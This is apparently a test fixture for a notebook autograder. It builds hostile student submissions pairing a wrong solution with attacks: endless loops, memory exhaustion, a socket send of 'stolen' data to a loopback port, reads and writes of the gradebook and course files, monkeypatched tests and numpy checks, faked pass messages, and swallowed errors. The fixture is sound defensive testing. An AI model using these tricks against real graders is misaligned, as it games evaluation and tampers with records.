"""Hostile submissions: each is a wrong (fast) solution plus one attack.

Every one must score what the wrong solution scores without the attack: 0.
``build(course_root, listener_port)`` returns {student: (notebook or raw text,
extra files, expected reason)}; the attacks that aim at the course folder or
the network get its path and the port of a loopback listener the test opens.
"""
import nbformat

from dnn_course.demo.samples import HEADER, sample_notebooks

# No training, and the input size taken from the notebook's train_x instead of X:
# every test cell fails, instantly (the no-globals cell too), yet the public-test
# cell gets as far as calling the public test.
FAST_WRONG = {
    "two_layer_model": HEADER["two_layer_model"] + '''
    # YOUR CODE STARTS HERE
    parameters = initialize_parameters(train_x.shape[0], *layers_dims[1:])
    return parameters, [0.5]
    # YOUR CODE ENDS HERE''',
    "L_layer_model": HEADER["L_layer_model"] + '''
    # YOUR CODE STARTS HERE
    parameters = initialize_parameters_deep([train_x.shape[0], *layers_dims[1:]])
    return parameters, [0.5]
    # YOUR CODE ENDS HERE''',
}
SLEEP_SECONDS = 613  # a recognisable child process


def _attacks(root, port):
    return {
        "endless-loop": ("while True:\n    pass\n", "CellTimeoutError"),
        "sigint-ignoring-loop": ("import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                                 "while True:\n    pass\n", "CellTimeoutError"),
        "alloc-8gb": ("import numpy\nbig = numpy.ones(10**9)\nbig[::4096] = 2.0\n", ""),
        "network": (f"import socket\ns = socket.create_connection(('127.0.0.1', {port}), timeout=3)\n"
                    "s.sendall(b'stolen')\n", ""),
        "read-source": (f"print(open({str(root / 'source' / 'dnn_app' / 'dnn_app.ipynb')!r}).read())\n", ""),
        "read-gradebook": (f"print(open({str(root / 'gradebook.db')!r}, 'rb').read(4096))\n", ""),
        "write-course-files": (f"open({str(root / 'nbgrader_config.py')!r}, 'a').write('\\n# HACKED\\n')\n"
                               f"open({str(root / 'gradebook.db')!r}, 'ab').write(b'HACKED')\n", ""),
        "monkeypatched-public-tests": (
            "import public_tests\n"
            "public_tests.two_layer_model_test = public_tests.L_layer_model_test = lambda f: None\n"
            "two_layer_model_test = L_layer_model_test = lambda f: None\n"
            # the test cells' one call, made to pass whatever the function does
            "public_tests.run_test_cell = lambda *a, **k: print(' All tests passed.')\n",
            "VerificationError"),
        "monkeypatched-numpy": (
            "import numpy\nnumpy.allclose = lambda *a, **k: True\nnumpy.isclose = lambda a, b, **k: True\n"
            "numpy.array_equal = lambda *a, **k: True\nnumpy.testing.assert_allclose = lambda *a, **k: None\n",
            ""),
        "fake-all-tests-passed": ("print('\\033[92m All tests passed.\\033[0m')\n", ""),
        "swallowed-errors": ("get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)\n",
                             "tests failed"),
        "os-exit": ("import os\nos._exit(1)\n", "KernelDied"),
        "spawn-20-processes": ("import subprocess\n"
                               f"procs = [subprocess.Popen(['sleep', '{SLEEP_SECONDS}'], start_new_session=True)"
                               " for _ in range(20)]\n", ""),
    }


def _filled(cells_by_id, edit=None):
    nb = sample_notebooks()["demo-blank"]
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid in cells_by_id:
            cell.source = cells_by_id[gid]
    if edit:
        edit(nb)
    return nb


def _is_test(cell):
    meta = cell.metadata.get("nbgrader", {})
    return meta.get("grade") and not meta.get("solution")


def _delete_tests(nb):
    nb.cells = [c for c in nb.cells if not _is_test(c)]


def _edit_tests(nb):
    for c in nb.cells:
        if _is_test(c):
            c.source = "pass  # nothing to see here"


def _rename_a_test(nb):
    for c in nb.cells:
        if c.metadata.get("nbgrader", {}).get("grade_id") == "correct_two_layer_model":
            c.metadata["nbgrader"]["grade_id"] = "my_own_test"


def build(root, port):
    """student -> (notebook or raw text, {extra file: text}, expected reason substring)."""
    subs = {}
    for name, (code, reason) in _attacks(root, port).items():
        cells = dict(FAST_WRONG, two_layer_model=code + FAST_WRONG["two_layer_model"])
        subs[f"hostile-{name}"] = (_filled(cells), {}, reason)
    subs["hostile-deleted-tests"] = (_filled(FAST_WRONG, _delete_tests), {}, "was missing; it was put back")
    subs["hostile-edited-tests"] = (_filled(FAST_WRONG, _edit_tests), {}, "had been changed")
    subs["hostile-renamed-grade-id"] = (_filled(FAST_WRONG, _rename_a_test), {},
                                        "'my_own_test', which is not one")
    subs["hostile-extra-public-tests"] = (
        _filled(FAST_WRONG), {"public_tests.py": "def two_layer_model_test(f):\n    pass\n\n"
                                                 "def L_layer_model_test(f):\n    pass\n",
                              "numpy.py": "raise SystemExit('fake numpy')\n"},
        "Files that could replace Python packages were ignored")
    text = nbformat.writes(_filled(FAST_WRONG))
    subs["hostile-invalid-json"] = (text[: len(text) // 3], {}, "not valid JSON")
    return subs
